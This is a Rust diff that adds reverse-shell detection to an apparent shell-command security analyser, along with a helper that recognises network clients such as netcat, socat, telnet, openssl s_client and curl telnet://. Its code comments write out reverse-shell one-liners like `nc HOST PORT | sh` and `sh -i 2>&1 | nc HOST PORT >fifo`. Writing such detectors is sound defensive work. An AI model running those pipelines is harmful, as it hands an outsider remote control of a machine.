@@ -41,6 +41,30 @@ impl<'c> Walker<'c> {
             }
             break;
         }
+        // A shell reading its commands from a pipeline that has a network
+        // connection in it (`nc HOST PORT | sh`, `openssl s_client ... |
+        // sh | openssl s_client ...`, `sh -i 2>&1 | nc HOST PORT >fifo`):
+        // a reverse shell, whichever side of the shell the connection is.
+        if !command_string && rest.get(i).is_none() && site.cmd.pipeline.len > 1 {
+            let peers: Vec<&SimpleCommand> = site
+                .analysis
+                .commands
+                .iter()
+                .filter(|c| {
+                    c.pipeline.id == site.cmd.pipeline.id
+                        && c.pipeline.index != site.cmd.pipeline.index
+                        && c.depth == site.cmd.depth
+                })
+                .collect();
+            if let Some(client) = peers.iter().find_map(|c| self.network_client(c)) {
+                self.find(
+                    Exfil,
+                    Critical,
+                    format!("wires {name} to a network connection ({client}): a reverse shell"),
+                    &site.cmd.text,
+                );
+            }
+        }
         // A shell given nothing to run but wired to the terminal or to
         // duplicated descriptors (`/bin/sh </dev/tty`, `exec sh 0<&2 1>&2`,
         // `sh -i`): the GTFOBins way to hand someone an interactive shell.
@@ -705,5 +729,38 @@ impl<'c> Walker<'c> {
                 text,
             );
         }
+    }
+}
+
+impl<'c> Walker<'c> {
+    /// The program of `cmd` when it opens a network connection that data
+    /// flows through: netcat and its kin, `openssl s_client`, `telnet`,
+    /// `curl telnet://`, also when named through a variable assigned
+    /// earlier (`C='curl -Ns telnet://h:1'; $C | sh`).
+    pub(super) fn network_client(&self, cmd: &SimpleCommand) -> Option<String> {
+        let raw: Vec<String> = cmd
+            .argv
+            .iter()
+            .map(|w| w.value_or_raw().to_owned())
+            .collect();
+        let mut words: Vec<String> = Vec::new();
+        for (i, w) in raw.iter().enumerate() {
+            match self.resolve_vars(w) {
+                Some(v) if i == 0 && w.starts_with('$') => {
+                    words.extend(v.split_whitespace().map(str::to_owned))
+                }
+                _ => words.push(w.clone()),
+            }
+        }
+        let name = paths::basename(words.first()?).to_owned();
+        let args = words.get(1..).unwrap_or(&[]);
+        let connects = NETCAT.contains(&name.as_str())
+            || matches!(name.as_str(), "telnet" | "ztcp" | "socat" | "rcat")
+            || name == "openssl" && args.iter().any(|a| a == "s_client")
+            || FETCHERS.contains(&name.as_str())
+                && args
+                    .iter()
+                    .any(|a| a.starts_with("telnet://") || a.starts_with("tcp://"));
+        connects.then_some(name)
     }
 }
